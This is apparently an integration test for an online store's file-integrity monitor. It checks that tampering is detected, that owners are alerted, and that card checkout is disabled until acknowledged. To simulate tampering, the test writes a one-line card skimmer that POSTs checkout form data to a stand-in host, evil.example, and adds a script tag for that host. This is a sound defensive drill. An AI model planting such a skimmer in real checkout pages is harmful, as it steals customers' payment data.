import assert from 'node:assert/strict';
import { appendFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { projectRoot } from '../platform/paths.ts';
import { TestClient } from '../../test/client.ts';
import { startTestStore, type TestStore } from '../../test/harness.ts';
import { allMails } from '../../test/outbox.ts';
import { staffClient } from '../../test/sessions.ts';
import { integrityConfig } from './config.ts';
import { createBaseline } from './files/manifest.ts';

/**
 * The drill (T1, T3): while the store runs, a skimmer is added to the checkout template and a
 * script is dropped into the static folder. Never on the real repository: on a copy of the code tree.
 */
const work = mkdtempSync(join(tmpdir(), 'omamori-drill-'));
const tree = join(work, 'tree');
const data = join(work, 'data');
let store: TestStore;

before(async () => {
  for (const p of ['src', 'static', 'dist', 'bin', 'scripts', 'package.json', 'package-lock.json', 'tsconfig.json']) {
    if (existsSync(join(projectRoot, p))) cpSync(join(projectRoot, p), join(tree, p), { recursive: true });
  }
  process.env.INTEGRITY_ROOT = tree;
  process.env.INTEGRITY_INTERVAL_SECONDS = '1';
  // The deploy step: a signed baseline of the tree as deployed.
  await createBaseline(integrityConfig({ dataDir: data }));
  store = await startTestStore({ config: { dataDir: data } });
});
after(async () => {
  await store?.close();
  delete process.env.INTEGRITY_ROOT;
  delete process.env.INTEGRITY_INTERVAL_SECONDS;
  rmSync(work, { recursive: true, force: true });
});

async function health() {
  return (await new TestClient(store.url).get('/healthz')).json<{ status: string; cardCheckout: string; cardCheckoutReason?: string }>();
}

async function waitFor<T>(what: string, fn: () => Promise<T | undefined | false>, timeoutMs = 60_000): Promise<T> {
  const t0 = Date.now();
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() - t0 > timeoutMs) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

test('a skimmer appended to the checkout template and a script dropped into static/ are found within seconds; card checkout fails closed until an owner acts', async () => {
  const { client: owner } = await staffClient(store, 'owner');
  await waitFor('a clean first round', async () => (await health()).cardCheckout === 'enabled');
  assert.equal(store.services.integrity.cardCheckoutAllowed().allowed, true);

  const template = join(tree, 'src', 'checkout', 'views', 'form-page.ts');
  const original = readFileSync(template);
  const t0 = Date.now();
  appendFileSync(template, '\n// <script src="https://evil.example/s.js"></script>\n');
  // The attacker makes the folder if it is not there (git keeps no empty folders).
  mkdirSync(join(tree, 'static', 'js'), { recursive: true });
  writeFileSync(join(tree, 'static', 'js', 'skim.js'), 'fetch("https://evil.example/c",{method:"POST",body:document.forms[0]&&new FormData(document.forms[0])})');

  const findings = await waitFor('both findings', async () => {
    const rows = await store.ctx.db.selectFrom('integrity_finding').selectAll().where('acknowledged_at', 'is', null).execute();
    return rows.length >= 2 && rows;
  });
  const seconds = (Date.now() - t0) / 1000;
  assert.ok(seconds < 60, `found in ${seconds} s`);
  console.log(`drill: both changes found in ${seconds.toFixed(1)} s`);
  assert.deepEqual(
    findings.map((f) => [f.kind, f.path]).sort(),
    [
      ['added', 'static/js/skim.js'],
      ['modified', 'src/checkout/views/form-page.ts'],
    ],
  );
  // Each finding's row is written just before its alert: wait for the second alert too.
  const alerts = await waitFor('both alerts', async () => {
    const rows = await store.ctx.db.selectFrom('alert').selectAll().where('kind', '=', 'integrity').execute();
    return rows.length >= 2 && rows;
  });
  assert.equal(alerts.length, 2);
  assert.ok(alerts.every((a) => a.severity === 'critical'));
  assert.ok(alerts.some((a) => a.title.includes('src/checkout/views/form-page.ts')));
  assert.ok(alerts.some((a) => a.title.includes('static/js/skim.js')));
  await store.drainJobs();
  const mail = await allMails(store, 'security_alert'); // stored encrypted (issue 5)
  assert.ok(mail.some((m) => /CRITICAL/.test(m.subject) && m.subject.includes('form-page.ts')), 'the owner was mailed');

  const h = await health();
  assert.equal(h.cardCheckout, 'disabled');
  assert.equal(h.cardCheckoutReason, 'files_changed');
  assert.equal(h.status, 'ok', 'the rest of the store keeps serving');
  assert.equal(store.services.integrity.cardCheckoutAllowed().allowed, false);

  // The owner sees both in the console and acknowledges them; a note is required.
  const page = await owner.get('/admin/security/integrity');
  assert.equal(page.status, 200);
  assert.match(page.text, /static\/js\/skim\.js/);
  assert.match(page.text, /data-card-checkout="disabled"/);
  const modified = findings.find((f) => f.kind === 'modified')!;
  const added = findings.find((f) => f.kind === 'added')!;
  const empty = await owner.postForm(`/admin/security/integrity/findings/${modified.id}/acknowledge`, { note: ' ' });
  assert.equal(empty.status, 422);
  assert.match(empty.text, /aria-invalid="true"/);
  for (const f of [modified, added]) {
    const res = await owner.postForm(`/admin/security/integrity/findings/${f.id}/acknowledge`, { note: '不正な変更。正しいファイルを再デプロイ' });
    assert.equal(res.status, 303);
  }
  const acked = await store.ctx.db.selectFrom('integrity_finding').select(['acknowledged_by', 'acknowledgement_note']).where('id', '=', modified.id).executeTakeFirstOrThrow();
  assert.ok(acked.acknowledged_by);
  // Acknowledged, but the files still differ from the baseline: still closed, and not re-raised.
  await store.services.integrity.verifyNow();
  assert.equal((await health()).cardCheckoutReason, 'files_changed');
  assert.equal((await store.ctx.db.selectFrom('integrity_finding').select('id').where('acknowledged_at', 'is', null).execute()).length, 0);

  // The malicious changes are undone (redeploy): the tree matches the baseline again and checkout reopens.
  writeFileSync(template, original);
  unlinkSync(join(tree, 'static', 'js', 'skim.js'));
  await waitFor('checkout enabled again', async () => (await health()).cardCheckout === 'enabled', 10_000);
});

test('a legitimate change is cleared by acknowledging it and taking a new baseline, which is itself alerted', async () => {
  const { client: owner } = await staffClient(store, 'owner');
  const file = join(tree, 'static', 'css', 'store.css');
  appendFileSync(file, '\n.new-rule { color: red; }\n');
  const finding = await waitFor('the finding', () => store.ctx.db.selectFrom('integrity_finding').selectAll().where('path', '=', 'static/css/store.css').where('acknowledged_at', 'is', null).executeTakeFirst());
  assert.equal((await health()).cardCheckout, 'disabled');
  assert.equal((await owner.postForm(`/admin/security/integrity/findings/${finding.id}/acknowledge`, { note: 'デザイン変更のデプロイ' })).status, 303);
  await createBaseline(integrityConfig({ dataDir: data })); // `npx omamori integrity baseline`
  await waitFor('checkout enabled', async () => (await health()).cardCheckout === 'enabled', 10_000);
  // Acknowledging alone reopens checkout; the new baseline is picked up by the next round, so wait for its alert.
  const replaced = await waitFor('the baseline alert', async () => {
    const rows = await store.ctx.db.selectFrom('alert').selectAll().where('kind', '=', 'integrity_baseline').execute();
    return rows.length ? rows : undefined;
  }, 10_000);
  assert.equal(replaced.length, 1, 'a new baseline is visible to the owners');
});

test('a tampered manifest disables card checkout', async () => {
  const cfg = integrityConfig({ dataDir: data });
  writeFileSync(cfg.manifestPath, readFileSync(cfg.manifestPath, 'utf8').replace('"files": {', '"files": {\n  "static/js/shell.js": { "size": 1, "sha256": "00" },'));
  await waitFor('bad signature', async () => (await health()).cardCheckoutReason === 'bad_signature', 10_000);
  const f = await store.ctx.db.selectFrom('integrity_finding').selectAll().where('kind', '=', 'bad_signature').executeTakeFirstOrThrow();
  assert.equal(f.path, 'manifest.json');
});
